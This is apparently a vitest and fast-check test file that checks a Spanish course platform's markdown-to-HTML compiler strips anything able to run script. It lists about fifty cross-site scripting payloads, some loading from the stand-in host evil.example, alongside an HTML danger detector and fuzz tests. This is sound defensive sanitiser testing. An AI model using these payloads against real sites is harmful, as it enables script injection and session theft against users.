import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { compileActivity } from '@/lib/authoring/compile-activity';
import { toMaterials } from '@/lib/authoring/materials';

const options = { language: 'es' as const, base: '/cursos/x', materials: toMaterials([], []) };

function compile(markdown: string) {
  const { compiled, problems } = compileActivity(
    { kind: 'lesson', outcome: '', notice: '', markdown },
    options,
  );
  if (compiled.kind !== 'lesson') throw new Error('not a lesson');
  return { html: compiled.segments.map((one) => (one.type === 'html' ? one.html : '')).join(''), problems };
}

const elements = new Set(
  `p h2 h3 ul ol li blockquote em strong del code pre br hr a img table thead tbody tr th td section details summary
  div`.split(/\s+/),
);
const attributes = new Set(
  'id class href rel data-term src alt title start align scope tabindex role aria-label'.split(' '),
);

/** Reads HTML as a browser's tokenizer would, strictly, and answers with everything in it that could act. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const tag = /<(\/?)([a-zA-Z][\w-]*)((?:\s+[\w-]+(?:="[^"]*")?)*)\s*>/y;
  for (let at = html.indexOf('<'); at >= 0; at = html.indexOf('<', tag.lastIndex)) {
    tag.lastIndex = at;
    const match = tag.exec(html);
    if (!match) return [...found, `not a tag: ${html.slice(at, at + 40)}`];
    if (!elements.has(match[2]!.toLowerCase())) found.push(match[0]);
    for (const [, name, value = ''] of match[3]!.matchAll(/([\w-]+)(?:="([^"]*)")?/g)) {
      if (!attributes.has(name!)) found.push(match[0]);
      if ((name === 'href' || name === 'src') && !/^(https?:\/\/|mailto:|\/(?![/\\])|#|\/$)/i.test(value))
        found.push(match[0]);
    }
  }
  return found;
}

const attacks = [
  '<script>alert(1)</script>',
  'a <script src=//evil.example></script> b',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{background:url(//evil.example)}</style>',
  '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<!-- <img src=x onerror=alert(1)> -->',
  '<form action="https://evil.example"><input name=q></form>',
  '<p style="position:fixed" onclick=alert(1)>x</p>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](java&#x09;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](glosario:"><script>alert(1)</script>)',
  '[x](glosario:javascript:alert)',
  '[[x](javascript:alert(1))](https://example.org)',
  '[![x](javascript:alert(1))](javascript:alert(2))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x](https://evil.example/pixel.png)',
  '![x" onerror="alert(1)](/a.png)',
  '<javascript:alert(1)>',
  '<https://example.org/"onmouseover="alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '[^1]\n\n[^1]: <script>alert(1)</script>',
  ':::nota{onclick="alert(1)" style="x" class="y" id="z"}\nx\n:::',
  ':::nota{titulo="\\"><script>alert(1)</script>"}\nx\n:::',
  ":::nota{titulo='\"><img src=x onerror=alert(1)>'}\nx\n:::",
  ':::sensible{titulo="<b onclick=alert(1)>x</b>"}\nx\n:::',
  ':::script\nalert(1)\n:::',
  ':::nota[<img src=x onerror=alert(1)>]\nx\n:::',
  '::iframe{src="https://evil.example"}',
  '::pregunta{id="\\"><script>"}',
  ':script[alert(1)]{src="x"}',
  '## <img src=x onerror=alert(1)>',
  '## x" onmouseover="alert(1)',
  '| <script>alert(1)</script> |\n|---|\n| [x](javascript:alert(1)) |',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '- [ ] <input onfocus=alert(1) autofocus>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<details open ontoggle=alert(1)>',
];

describe('compiled content', () => {
  test.each(attacks)('lets nothing act: %s', (markdown) => {
    expect(dangers(compile(markdown).html)).toEqual([]);
  });

  test('has a detector that would see an attack', () => {
    expect(dangers('<p onclick="x">a</p>')).toHaveLength(1);
    expect(dangers('<script>alert(1)</script>')).toHaveLength(2);
    expect(dangers('<p title="a"><b onclick="x">a</b></p>')).toHaveLength(3);
    expect(dangers('<a href="javascript:alert(1)">a</a>')).toHaveLength(1);
    expect(dangers('<img src=x onerror=alert(1)>')).toHaveLength(1);
  });

  test('refuses raw HTML, strange links and strange attributes with their lines', () => {
    const { problems } = compile('a\n\n<b>b</b>\n\n[c](javascript:alert(1))\n\n:::nota{onclick="d"}\ne\n:::');
    expect(problems.map(({ line, reason }) => [line, reason])).toEqual([
      [3, 'raw-html'],
      [3, 'raw-html'],
      [5, 'link-address'],
      [7, 'unknown-attribute'],
    ]);
  });

  test('lets nothing act, however the attacks are put together', () => {
    const piece = fc.oneof(
      fc.constantFrom(...attacks),
      fc.constantFrom(
        '\n',
        '\n\n',
        '> ',
        '- ',
        '    ',
        ':::nota\n',
        ':::\n',
        '[',
        '](',
        ')',
        '"',
        '`',
        '**',
        '|',
        '<',
        '>',
        '{',
        '}',
      ),
      fc.string({ maxLength: 8 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        expect(dangers(compile(pieces.join('')).html)).toEqual([]);
      }),
      { numRuns: 150 },
    );
  });
});
